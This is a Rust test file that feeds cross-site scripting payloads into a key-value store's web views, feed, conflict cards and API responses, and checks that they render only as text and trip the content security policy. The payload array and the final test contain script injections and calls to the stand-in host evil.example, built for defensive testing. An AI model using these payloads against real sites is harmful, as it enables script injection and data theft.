//! Keys and values that are written to be run by who looks at them: every view shows them as text, and nothing else comes of it.

use serde_json::{Value, json};

use super::driver::Browser;
use super::settle::encoded;
use crate::support::api::send;
use crate::support::cluster::Cluster;
use crate::support::until;

/// What a view shows of a text at once.
const SHOWN: usize = 160;

/// Each sets `ran`, opens a dialog, asks another origin, or leads there, where it is taken for more than text.
const TEXTS: [&str; 16] = [
    "<script>window.ran='script'</script>",
    "\"><img src=x onerror=\"window.ran='img'\"><svg/onload=window.ran='svg'>",
    "</textarea></title></style><script src=//evil.example/x.js></script>",
    "' onmouseover='window.ran=\"attribute\"' autofocus onfocus='window.ran=\"focus\"' x='",
    "<iframe srcdoc=\"<script>parent.ran='srcdoc'</script>\"></iframe><iframe src=javascript:parent.ran='frame'></iframe>",
    "javascript:window.ran='address'//",
    "data:text/html,<script>opener.ran='data'</script>",
    "//evil.example/#<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css';</style>",
    "{{constructor.constructor('window.ran=1')()}}${window.ran=2}<%= ran=3 %>#{ran=4}",
    "<template><script>alert(1)</script></template><details open ontoggle=alert(2)>",
    "__proto__",
    "\u{0}\u{1}\u{7}\u{8}\u{1b}[31m\u{1b}]0;title\u{7}\u{7f}\u{85}\r\n\t two\u{2028}lines\u{2029}",
    "\u{202e}exe.\u{2066}txt\u{202d}\u{200f}\u{feff}\u{200b}<b>",
    "\u{e000}\u{fffe}\u{10ffff}🦀e\u{301}\u{489}\u{489}\u{489}",
    "%3Cscript%3Ewindow.ran='decoded'%3C/script%3E&lt;script&gt;&#60;script&#62;",
];

/// Notes breaches of the policy: each is something that was taken for more than text.
const WATCH: &str = "window.breaches = []; \
                     addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => window.breaches.push([violatedDirective, blockedURI]))";

/// A key, and what node0 and node2 wrote to it without knowing of each other.
struct Stored {
    key: String,
    values: [String; 2],
}

/// Every text as a key, and as a value of either node; and long ones without a place to break at.
fn all() -> Vec<Stored> {
    let text = |number: usize| TEXTS[number % TEXTS.len()].to_owned();
    let mut all: Vec<Stored> =
        (0..TEXTS.len()).map(|number| Stored { key: text(number), values: [text(number), text(number + 1)] }).collect();
    let values = ["<script>window.ran='long'</script>".repeat(20_000), "W".repeat(200_000)];
    all.push(Stored { key: "<b>".repeat(341), values });
    all
}

/// What is shown of a text before somebody wants all of it. Long ones here are of ASCII.
fn shown(text: &str) -> String {
    if text.len() <= SHOWN || !text.is_ascii() { text.to_owned() } else { format!("{}…", &text[..SHOWN]) }
}

/// Waits until the script, given `key`, returns these, in whatever order.
async fn until_shows(browser: &Browser, script: &str, key: &str, wanted: impl IntoIterator<Item = String>) {
    let mut wanted: Vec<String> = wanted.into_iter().collect();
    wanted.sort();
    let found = async || {
        let found: Value = browser.run(script, &[key]).await;
        let mut found: Vec<String> = serde_json::from_value(found).unwrap_or_default();
        found.sort();
        found
    };
    let shows = async || (found().await == wanted).then_some(());
    until(shows, async || format!("not {wanted:?} but {:?}", found().await)).await;
}

/// Does what a mouse and the keyboard could set off, and looks whether anything was more than text.
async fn assert_only_text(browser: &Browser, origin: &str) {
    let stir = "for (const found of document.querySelectorAll('*')) \
                for (const name of ['mouseover', 'mouseenter', 'focus', 'load', 'error', 'toggle']) found.dispatchEvent(new Event(name)); \
                return [window.ran ?? null, window.breaches ?? null, document.querySelectorAll('script, iframe, img, style, base, template, bdi *').length, \
                [...document.links].filter((link) => link.origin !== location.origin).map((link) => link.href), location.origin]";
    let found = browser.run(stir, &[]).await;
    // The page has two scripts of its own.
    assert_eq!(found, json!([null, [], 2, [], origin]));
    for url in browser.requested().await {
        assert!(url.starts_with(origin) || url == "about:blank", "it asked {url}");
    }
    browser.assert_no_errors().await;
}

/// What stands behind a text on the same line is shown behind it, and from left to right, whatever directions that has.
async fn assert_in_order(browser: &Browser, behind: &str) {
    let script = "const strayed = []; \
                  for (const text of document.querySelectorAll(arguments[0])) { \
                    for (let next = text.nextSibling; next; next = next.nextSibling) { \
                      const node = next.nodeType === Node.TEXT_NODE ? next : next.firstChild; \
                      if (node?.nodeType !== Node.TEXT_NODE || next.nodeName === 'BDI') continue; \
                      const range = document.createRange(); range.selectNodeContents(node); \
                      const letters = [...node.data].map((_, at) => { range.setStart(node, at); range.setEnd(node, at + 1); return range.getBoundingClientRect() }); \
                      const lines = [...text.getClientRects(), ...[...text.querySelectorAll('bdi')].flatMap((inner) => [...inner.getClientRects()])]; \
                      const before = lines.filter((line) => line.width && line.bottom > letters[0].top && line.top < letters[0].bottom); \
                      const isOrdered = letters.every((letter, at) => !at || letter.top > letters[at - 1].top || letter.left >= letters[at - 1].left); \
                      if (!isOrdered || before.some((line) => line.right > letters[0].right + 1)) strayed.push([text.textContent, node.data]); \
                    } \
                  } \
                  return strayed";
    assert_eq!(browser.run(script, &[behind]).await, json!([]), "of {behind}");
}

/// A browser that notes in every page what must not happen.
async fn watching() -> Option<Browser> {
    let browser = Browser::start().await?;
    browser.run_in_every_page(WATCH).await;
    Some(browser)
}

/// Every key of `all` holds both its values, on all nodes.
async fn store(cluster: &Cluster, all: &[Stored]) {
    cluster.links.values().for_each(|link| link.cut());
    for Stored { key, values } in all {
        for (node, value) in [(0, &values[0]), (2, &values[1])] {
            let written = send(cluster.api(node).patch("", &json!({ key: value }))).await.unwrap();
            assert_eq!(written.status, 200, "{key:?}: {}", written.body);
        }
    }
    cluster.links.values().for_each(|link| link.heal());
    cluster.until_equal(2 * all.len() as u64).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_view_shows_keys_and_values_as_text() {
    let Some(browser) = watching().await else { return };
    let cluster = Cluster::linked().await;
    let all = all();
    store(&cluster, &all).await;
    let node = &cluster.nodes[0];
    let origin = node.api.url("");
    let keys = || all.iter().map(|stored| shown(&stored.key));

    browser.open(node, "/#/keys").await;
    let listed = "return [...document.querySelectorAll('ul.keys a.key')].map((link) => link.textContent)";
    until_shows(&browser, listed, "", keys()).await;
    assert_in_order(&browser, "ul.keys a.key").await;
    browser.pictures("scripts-keys").await;
    assert_only_text(&browser, &origin).await;

    let held = "return document.querySelector('.one h2').textContent.startsWith(arguments[0]) && \
                [...document.querySelectorAll('.held')].map((held) => held.querySelector('bdi').textContent)";
    for Stored { key, values } in &all {
        browser.run("location.hash = `#/keys?key=${arguments[0]}`", &[&encoded(key)]).await;
        until_shows(&browser, held, &shown(key), values.iter().map(|value| shown(value))).await;
        browser.run("document.querySelectorAll('.held details').forEach((long) => long.open = true)", &[]).await;
        assert_only_text(&browser, &origin).await;
    }
    browser.pictures("scripts-long").await;

    browser.open(node, "/#/conflicts").await;
    let cards =
        "return [...document.querySelectorAll('.card')].map((card) => card.querySelector('h2 bdi').textContent)";
    until_shows(&browser, cards, "", keys()).await;
    let options = "return [...document.querySelectorAll('.card')].find((card) => card.querySelector('h2 bdi').textContent === arguments[0]) \
                   ?.querySelectorAll('.option label bdi:first-child').values().map((value) => value.textContent).toArray()";
    for Stored { key, values } in &all {
        until_shows(&browser, options, &shown(key), values.iter().map(|value| shown(value))).await;
    }
    assert_in_order(&browser, ".card h2 a.key").await;
    browser.pictures("scripts-conflicts").await;
    assert_only_text(&browser, &origin).await;
    browser.run("document.querySelector('.card input').click()", &[]).await;
    browser.click(".card button[type=submit]", "Settle").await;
    browser.until("#announcement", "Settled ").await;
    assert_only_text(&browser, &origin).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn writes_on_their_way_are_text_too() {
    let Some(browser) = watching().await else { return };
    let cluster = Cluster::linked().await;
    let node = &cluster.nodes[0];
    let origin = node.api.url("");
    let all = all();
    browser.open(node, "/#/feed").await;
    browser.until(".view", "Nothing yet.").await;
    cluster.cut_off(2);
    let mut dots = Vec::new();
    for Stored { key, values } in &all {
        let written = send(node.api.patch("", &json!({ key: &values[0] }))).await.unwrap();
        dots.push(written.json()["dot"].as_str().unwrap().to_owned());
    }
    let fed = "return [...document.querySelectorAll('.feed .entry')].flatMap((entry) => \
               [entry.querySelector('a.key').textContent, entry.querySelector('a.key ~ bdi, a.key ~ details bdi').textContent])";
    until_shows(&browser, fed, "", all.iter().flat_map(|Stored { key, values }| [shown(key), shown(&values[0])])).await;
    assert_in_order(&browser, ".feed a.key").await;
    browser.pictures("scripts-feed").await;
    assert_only_text(&browser, &origin).await;

    let of_receipt = "return [...document.querySelectorAll('.facts a.key')].map((link) => link.textContent)";
    for (Stored { key, .. }, dot) in all.iter().zip(&dots) {
        browser.run("location.hash = `#/write/${arguments[0]}`", &[dot]).await;
        until_shows(&browser, of_receipt, "", [shown(key)]).await;
        assert_only_text(&browser, &origin).await;
    }

    browser.open(node, "/").await;
    browser.click(".heal summary", "What would node2 get").await;
    let waiting = "return [...document.querySelectorAll('.heal a.key')].map((link) => link.textContent)";
    until_shows(&browser, waiting, "", all.iter().map(|stored| shown(&stored.key))).await;
    browser.pictures("scripts-waiting").await;
    assert_only_text(&browser, &origin).await;
}

/// What the API answers, opened as a page of its own.
#[tokio::test(flavor = "multi_thread")]
async fn answers_are_no_pages() {
    let Some(browser) = watching().await else { return };
    let cluster = Cluster::mesh().await;
    let node = &cluster.nodes[0];
    let origin = node.api.url("");
    for text in TEXTS {
        let written = send(node.api.patch("", &json!({ text: text }))).await.unwrap();
        assert_eq!(written.status, 200, "{text:?}: {}", written.body);
    }
    for text in TEXTS {
        let text = encoded(text);
        for path in
            [format!("/read?key={text}"), format!("/read?key={text}&resolve=all"), format!("/read?{text}={text}")]
        {
            browser.open(node, &path).await;
            let kind = browser.run("return document.contentType", &[]).await;
            assert!(
                ["text/plain", "application/json", "application/problem+json"].contains(&kind.as_str().unwrap()),
                "{path}: {kind}"
            );
            let found = browser.run("return [window.ran ?? null, window.breaches, location.origin]", &[]).await;
            assert_eq!(found, json!([null, [], origin]), "{path}");
        }
    }
    for url in browser.requested().await {
        assert!(url.starts_with(&origin) || url == "about:blank", "it asked {url}");
    }
}

/// That the tests here would notice.
#[tokio::test(flavor = "multi_thread")]
async fn the_policy_stops_what_would_get_into_the_page() {
    let Some(browser) = watching().await else { return };
    let cluster = Cluster::mesh().await;
    let node = &cluster.nodes[0];
    node.api.set("script", "window.ran = 'a value'").await;
    browser.open(node, "/").await;
    browser.until("#verdict", "All is well").await;
    let breaches = async |count: usize| {
        let noted =
            async || (browser.run("return window.breaches", &[]).await.as_array()?.len() >= count).then_some(());
        until(noted, async || browser.run("return window.breaches", &[]).await.to_string()).await;
    };
    for (number, attempt) in [
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
        "document.body.insertAdjacentHTML('beforeend', '<b>')",
        "document.body.append(Object.assign(new Image(), { src: 'http://evil.example/x' }))",
        "fetch('http://evil.example/').catch(() => {})",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/' }))",
    ]
    .iter()
    .enumerate()
    {
        browser.run(&format!("try {{ {attempt} }} catch {{}}"), &[]).await;
        breaches(number + 1).await;
    }
    // A value is of the page's own origin, but no script.
    let value = "const done = arguments[0]; const element = document.createElement('script'); \
                 element.onload = () => done('loaded'); element.onerror = () => done('refused'); \
                 try { element.src = '/read?key=script' } catch { done('refused') } document.head.append(element)";
    browser.run_until_done(value).await;
    assert_eq!(browser.run("return window.ran ?? null", &[]).await, Value::Null);
    assert!(browser.requested().await.iter().any(|url| url.contains("evil.example")), "a try is noticed too");
}
